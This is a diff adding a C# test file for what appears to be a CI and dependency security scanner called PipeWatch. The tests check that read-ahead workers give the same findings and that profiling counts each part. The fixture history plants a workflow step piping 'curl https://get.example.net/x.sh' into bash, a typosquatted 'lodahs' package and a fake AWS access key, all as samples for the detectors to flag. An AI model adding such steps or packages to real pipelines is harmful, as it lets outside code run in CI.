@@ -1,0 +1,92 @@
+using Microsoft.Extensions.Time.Testing;
+using PipeWatch.Configuration;
+using PipeWatch.Detectors;
+using PipeWatch.Detectors.CodeChange.PipelineTampering;
+using PipeWatch.Engine;
+using PipeWatch.Findings;
+using PipeWatch.Rules.Patterns;
+using PipeWatch.Sinks;
+using PipeWatch.Sources.Git;
+using PipeWatch.Tests.Detectors.Dependencies;
+using PipeWatch.Tests.Support;
+using Xunit;
+
+namespace PipeWatch.Tests.Engine;
+
+/// <summary>
+/// The scan reads dependency files and CI definitions ahead in batches and parses them on the preparation workers: the findings are
+/// the same as without read-ahead (one worker, on the detectors' thread) and <c>--profile</c> accounts for every part.
+/// </summary>
+public sealed class ScanReadAheadTests : IDisposable
+{
+    private const string Workflow = "name: ci\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@8e5e7e5ab8b370d6c329ec480221332ada57f0ab\n      - run: make test\n";
+    private readonly TestRepository _repo = new();
+
+    public ScanReadAheadTests()
+    {
+        NpmEntry express = new("express", "4.18.2", Direct: true), ms = new("ms", "2.0.0");
+        _repo.Write("package.json", CommitHistory.PackageJson("express")).Write("package-lock.json", CommitHistory.NpmLock(express, ms))
+            .Write(".github/workflows/ci.yml", Workflow).Commit("start");
+        for (var i = 0; i < 20; i++)
+        {
+            _repo.Write("package-lock.json", CommitHistory.NpmLock(express with { Version = $"4.18.{3 + i}" }, ms)).Write("src/app.js", $"// build {i}\n").Commit($"bump {i}");
+        }
+
+        _repo.Write(".github/workflows/ci.yml", Workflow.Replace("make test", "curl -sSL https://get.example.net/x.sh | bash", StringComparison.Ordinal))
+            .Commit("faster ci", "Eve Intruder <eve@example.net>");
+        _repo.Write("package-lock.json", CommitHistory.NpmLock(express with { Version = "4.18.23" }, ms, new NpmEntry("lodahs", "4.17.21"))).Commit("deps", "Eve Intruder <eve@example.net>");
+        _repo.Write("deploy.env", "AWS_ACCESS_KEY_ID=AKIAQWERTYUIOPASDFGH\n").Commit("env");
+    }
+
+    [Fact]
+    public async Task Findings_are_the_same_with_blobs_read_ahead_by_two_workers_as_on_one_thread()
+    {
+        var one = await RunAsync(new ScanOptions { Workers = 1, ChunkCommits = 4 });
+        var two = await RunAsync(new ScanOptions { Workers = 2, ChunkCommits = 4 });
+
+        Assert.Contains(one, f => f.Rule == DownloadAndExecuteCheck.Rule);
+        Assert.Contains(one, f => f.Rule == "dependency.unexpected-new" && f.Title.Contains("lodahs", StringComparison.Ordinal));
+        Assert.Contains(one, f => f.Category == Categories.HardcodedSecret);
+        Assert.Equal(Comparable(one), Comparable(two));
+    }
+
+    [Fact]
+    public async Task The_profile_times_reading_each_detector_and_the_blobs_read_ahead()
+    {
+        var profile = new ScanProfile();
+
+        // One worker: two workers may both read the blob that ends one chunk and begins the next.
+        var findings = await RunAsync(new ScanOptions { Workers = 1, ChunkCommits = 4, Profile = profile });
+
+        var parts = profile.Parts().ToDictionary(p => p.Name);
+        Assert.Equal(24 + 1, parts["read: git log output parsed into commits"].Calls); // 24 commits, then the end of the log
+        foreach (var id in new[] { "secrets.hardcoded", "code-change.pipeline-tampering", "dependency.unexpected-new" }) Assert.Equal(24, parts["inspect: " + id].Calls);
+        Assert.Equal(24, parts["prepare: secrets.hardcoded"].Calls);
+        Assert.Equal(6, parts["prepare: blobs read ahead"].Calls); // one batch per chunk of 4 commits
+        // 22 lockfile versions and 2 workflow versions: each read once, ahead, although both sides of each change are asked for.
+        var blobs = Assert.Single(parts.Values, p => p.Name.StartsWith("blobs read:", StringComparison.Ordinal));
+        Assert.StartsWith("blobs read: 24,", blobs.Name, StringComparison.Ordinal);
+        Assert.True(parts["inspect: secrets.hardcoded"].Cpu > TimeSpan.Zero);
+        Assert.NotEmpty(findings);
+    }
+
+    public void Dispose() => _repo.Dispose();
+
+    private static List<string> Comparable(IReadOnlyList<Finding> findings) =>
+        [.. findings.Select(f => $"{f.Rule}|{f.Severity}|{f.Title}|{f.Explanation}|{f.Location}|{f.Fingerprint}")];
+
+    private async Task<IReadOnlyList<Finding>> RunAsync(ScanOptions options)
+    {
+        var sink = new CollectingSink();
+        using var source = new GitHistorySource(GitRepository.Open(_repo.Path), GitSelection.Default);
+        var engine = new PipelineBuilder(null)
+            .WithConfig(PipeWatchConfig.Default with { Allow = [] })
+            .WithCommitDetectors(BuiltInDetectors.ForScan(PipeWatchConfig.Default, SecretRuleBook.BuiltIn))
+            .WithTime(new FakeTimeProvider(Ingest.Now))
+            .WithScanOptions(options)
+            .AddSink(sink)
+            .BuildScan();
+        await engine.RunAsync(source, null, TestContext.Current.CancellationToken);
+        return sink.Findings;
+    }
+}
